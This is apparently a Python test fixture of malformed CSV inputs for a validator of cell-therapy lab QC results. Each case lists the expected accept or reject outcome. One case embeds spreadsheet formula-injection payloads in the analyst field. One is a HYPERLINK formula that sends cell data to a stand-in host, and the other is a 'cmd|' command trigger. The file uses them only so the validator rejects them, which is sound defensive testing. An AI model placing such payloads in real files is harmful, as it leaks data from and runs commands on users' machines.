"""The nasty files, byte by byte, and what must come of each: decision, values, problems."""

from dataclasses import dataclass

HEADER = (
    b"lot_id,sample_id,aliquot,test_code,analyte,replicate,value,unit,measured_at,analyst,"
    b"instrument_id"
)
END = b",2026-03-21T16:56:00-05:00,jdoe,VCB-001"
LOT = b"MSC-26-0012,MSC-26-0012-S01,A1,"


@dataclass(frozen=True)
class Nasty:
    """A file and its outcome: ``problems`` are (code, row, column), ``values`` what is read."""

    name: str
    data: bytes
    decision: str
    values: tuple[str, ...] = ()
    problems: tuple[tuple[str, int, str], ...] = ()


def lines(*rows: bytes, end: bytes = b"\r\n") -> bytes:
    return b"".join(row + end for row in rows)


def viab(replicate: bytes, value: bytes) -> bytes:
    return LOT + b"VIAB,viability," + replicate + b"," + value + b",%" + END


def vcd(replicate: bytes, value: bytes) -> bytes:
    return LOT + b"VCD,viable_cell_density," + replicate + b"," + value + b",cells/mL" + END


TWO = lines(HEADER, viab(b"1", b"96.90"), viab(b"2", b"95.10"))
COMMAS = lines(HEADER, viab(b"1", b"96#90"), viab(b"2", b"95#10"), viab(b"3", b"97#00"))

ACCEPTED = (
    Nasty(
        "02_excel_unicode_text_utf16le_bom",
        b"\xff\xfe" + TWO.replace(b",", b"\t").decode().encode("utf-16-le"),
        "accept",
        ("96.90", "95.10"),
    ),
    Nasty(
        "07_censored_values",
        lines(
            HEADER,
            LOT + b"ENDO,endotoxin,1,<0.05,EU/mL" + END,
            LOT + b"FLOW,CD90,1,>95,%" + END,
            LOT + b"FLOW,CD45,1,<=2.0,%" + END,
        ),
        "accept",
        ("<0.05", ">95", "<=2.0"),
    ),
    Nasty(
        "08_sterility_words",
        lines(
            HEADER,
            LOT + b"STER,growth_14d,1,No growth," + END,
            LOT + b"STER,growth_14d,2,TNTC,CFU" + END,
        ),
        "accept_with_warning",
        ("No growth", "TNTC"),
        (("W601", 3, "value"),),
    ),
    Nasty(
        "15_trailing_empty_columns_rows",
        TWO.replace(b"\r\n", b",,,\r\n") + b"," * 13 + b"\r\n" + b"," * 13 + b"\r\n",
        "accept_with_warning",
        ("96.90", "95.10"),
        (("W602", 0, ""),),
    ),
    Nasty("16_lone_cr_classic_mac", TWO.replace(b"\r\n", b"\r"), "accept", ("96.90", "95.10")),
    Nasty(
        "19_quoted_newline_and_quotes",
        lines(
            HEADER + b",comment",
            viab(b"1", b"96.90") + b',"bubble seen,\r\n""re-read"" ok"',
        ),
        "accept",
        ("96.90",),
    ),
    Nasty(
        "20_excel_sep_line",
        b"sep=;\r\n" + TWO.replace(b",", b";"),
        "accept",
        ("96.90", "95.10"),
    ),
    Nasty(
        "26_exponent_forms",
        lines(HEADER, vcd(b"1", b"2.45E6"), vcd(b"2", b"2.45e+06")),
        "accept",
        ("2.45E6", "2.45e+06"),
    ),
    Nasty(
        "30_exact_decimals",
        lines(
            HEADER,
            viab(b"1", b"95.0"),
            viab(b"2", b"95.00"),
            viab(b"3", b"94.95"),
            LOT + b"ENDO,endotoxin,1,0.30000000000000004,EU/mL" + END,
        ),
        "accept",
        ("95.0", "95.00", "94.95", "0.30000000000000004"),
    ),
    Nasty(
        "28_wide_one_row_per_sample",
        b"lot_id,sample_id,replicate,viability [%],CD73 [%],CD90 [%],CD45 [%],measured_at,analyst\n"
        b"MSC-26-0012,MSC-26-0012-S01,1,96.90,99.1,98.8,0.40,2026-03-21T16:56:00-05:00,jdoe\n"
        b"MSC-26-0012,MSC-26-0012-S01,2,95.10,99.0,,<0.1,2026-03-21T17:02:00-05:00,jdoe\n",
        "accept_with_warning",
        ("96.90", "99.1", "98.8", "0.40", "95.10", "99.0", "<0.1"),
        (("W605", 3, "CD90 [%]"),),
    ),
)


def refused(name: str, data: bytes, *problems: tuple[str, int, str]) -> Nasty:
    return Nasty(name, data, "reject", problems=problems)


REFUSED = (
    refused(
        "01_excel_de_semicolon_decimalcomma_bom",
        b"\xef\xbb\xbf" + COMMAS.replace(b",", b";").replace(b"#", b","),
        ("E205", 2, "value"),
        ("E205", 3, "value"),
        ("E205", 4, "value"),
    ),
    refused(
        "03_cp1252_micro_degree",
        b"Sample ID,Average diameter (\xb5m),Viability (%),Temp (\xb0C)\r\n"
        b"MSC-26-0012-S01,18.51,96.9,37.0\r\n",
        ("E102", 1, "Average diameter ([0xB5]m)"),
        ("E102", 1, "Temp ([0xB0]C)"),
        ("E110", 1, ""),
        ("E110", 1, "Sample ID"),
    ),
    refused(
        "04_metadata_preamble_then_table",
        b"Plate Name,Plate1,,,,\r\nInstrument SN,MX-123-123,,,,\r\nOperator,admin,,,,\r\n"
        b"Results Timestamp,5/20/25 12:25,,,,\r\n,,,,,\r\n"
        b"Well,Sample,Live Cells/mL,Viability,Errors,\r\n"
        b"A1,MSC-26-0012-S01,2.28E+06,87.00%,,\r\nA2,MSC-26-0012-S02,2.23E+06,86.00%,,\r\n",
        ("W602", 0, ""),
        ("E110", 1, ""),
    ),
    refused(
        "05_flowjo_table_mean_sd_footer",
        b",Lymphocytes/Single Cells/Live/CD73+ | Freq. of Parent (%),"
        b"Lymphocytes/Single Cells/Live/CD90+ | Freq. of Parent (%)\n"
        b"MSC-26-0012-S01_001.fcs,98.7 %,99.1 %\nMSC-26-0012-S02_002.fcs,97.2 %,98.8 %\n"
        b"Mean,98.0 %,99.0 %\nSD,1.06 %,0.21 %\n",
        ("E110", 1, ""),
    ),
    refused(
        "06_duplicate_column_different_values",
        b"lot_id,sample_id,test_code,analyte,replicate,value,unit,value\n"
        b"MSC-26-0012,MSC-26-0012-S01,VIAB,viability,1,96.9,%,69.9\n",
        ("E110", 1, ""),
        ("E107", 1, "value"),
    ),
    refused(
        "09_missing_tokens",
        lines(
            HEADER,
            viab(b"1", b"NaN"),
            viab(b"2", b"N/A"),
            viab(b"3", b""),
            viab(b"4", b"ND"),
        ),
        ("E202", 2, "value"),
        ("E202", 3, "value"),
        ("E202", 4, "value"),
        ("E206", 5, "value"),
    ),
    refused(
        "10_excel_error_literals",
        lines(HEADER, viab(b"1", b"#DIV/0!"), viab(b"2", b"#N/A"), viab(b"3", b"96.9")),
        ("E201", 2, "value"),
        ("E201", 3, "value"),
    ),
    refused(
        "11_ambiguous_dates",
        TWO.replace(b"95.10", b"96.90")
        .replace(b"2026-03-21T16:56:00-05:00", b"03/04/2026 10:15", 1)
        .replace(b"2026-03-21T16:56:00-05:00", b"13/04/2026 10:20", 1),
        ("E301", 2, "measured_at"),
        ("E301", 3, "measured_at"),
    ),
    refused(
        "12_sample_ids_mangled_to_dates",
        lines(HEADER, *(viab(x, b"96.90") for x in (b"1", b"2", b"3")))
        .replace(b"MSC-26-0012-S01", b"1-Mar", 1)
        .replace(b"MSC-26-0012-S01", b"2-Sep", 1)
        .replace(b"MSC-26-0012-S01", b"45017", 1),
        ("E402", 2, "sample_id"),
        ("E402", 3, "sample_id"),
        ("E401", 4, "sample_id"),
    ),
    refused(
        "13_percent_sign_and_fraction",
        lines(HEADER, viab(b"1", b"97.5%"), viab(b"2", b"0.975"), viab(b"3", b"97.5")),
        ("E207", 3, "value"),
    ),
    refused(
        "14_thousands_separators",
        lines(HEADER, vcd(b"1", b'"1,250,000"'), vcd(b"2", b"1 250 000"), vcd(b"3", b'"1,250"')),
        ("E205", 2, "value"),
        ("E205", 3, "value"),
        ("E205", 4, "value"),
    ),
    refused(
        "17_nul_inside_sample_id",
        lines(
            HEADER,
            viab(b"1", b"96.90").replace(b"-S01", b"\x00-S01"),
            viab(b"1", b"96.90").replace(b"-S01", b"\x00-S02"),
        ),
        ("E104", 2, "sample_id"),
        ("E104", 3, "sample_id"),
    ),
    refused(
        "18_truncated_last_row",
        TWO + LOT + b"VIAB,viability,3,9",
        ("E106", 4, ""),
        ("E108", 4, ""),
    ),
    refused(
        "21_formula_injection",
        lines(HEADER, viab(b"1", b"96.90"), viab(b"2", b"96.90"))
        .replace(b"jdoe", b'=HYPERLINK("http://x.example/"&A1)', 1)
        .replace(b"jdoe", b"@SUM(1+1)*cmd|", 1),
        ("E501", 2, "analyst"),
        ("E501", 3, "analyst"),
    ),
    refused(
        "22_xlsx_renamed",
        bytes.fromhex(
            "504b0304140000000000"
            "89a0745dc71c173c"
            "0800000008000000130000005b436f6e74656e745f"
            "54797065735d2e786d6c3c54797065732f3e504b0304140000000000"
            "89a0745dce9e98130b000000"
            "0b0000000f000000786c2f776f726b626f6f6b2e786d6c3c776f726b626f6f6b2f3e504b010214031400"
            "00000000"
            "89a0745dc71c173c08000000080000001300000000000000000000008001"
            "00000000"
            "5b436f6e74656e745f54797065735d2e786d6c504b01021403140000000000"
            "89a0745dce9e9813"
            "0b0000000b0000000f00000000000000000000008001"
            "39000000786c2f776f726b626f6f6b2e786d6c"
            "504b050600000000020002007e000000710000000000"
        ),
        ("E101", 0, ""),
    ),
    refused("22c_header_only", lines(HEADER, end=b"\n"), ("E109", 0, "")),
    refused(
        "23_homoglyph_marker",
        lines(
            HEADER,
            LOT + "FLOW,СD73,1,99.1,%".encode() + END,
            LOT + "FLOW,CD90\N{ZERO WIDTH SPACE},1,98.2,%".encode() + END,
        ),
        ("E403", 2, "analyte"),
        ("E403", 3, "analyte"),
    ),
    refused(
        "24_mixed_decimal_styles",
        lines(HEADER, viab(b"1", b"97.5"), viab(b"2", b"97#5"))
        .replace(b",", b";")
        .replace(b"#", b","),
        ("E205", 2, "value"),
        ("E205", 3, "value"),
    ),
    refused(
        "25_exact_duplicate_rows",
        lines(HEADER, viab(b"1", b"96.90"), viab(b"1", b"96.90"), viab(b"2", b"95.10")),
        ("E405", 3, "replicate"),
    ),
    refused(
        "27_swapped_columns",
        lines(HEADER, viab(b"1", b"1250000"), vcd(b"1", b"96.9")),
        ("E209", 2, "value"),
        ("E209", 3, "value"),
    ),
)

NASTY = (*ACCEPTED, *REFUSED)
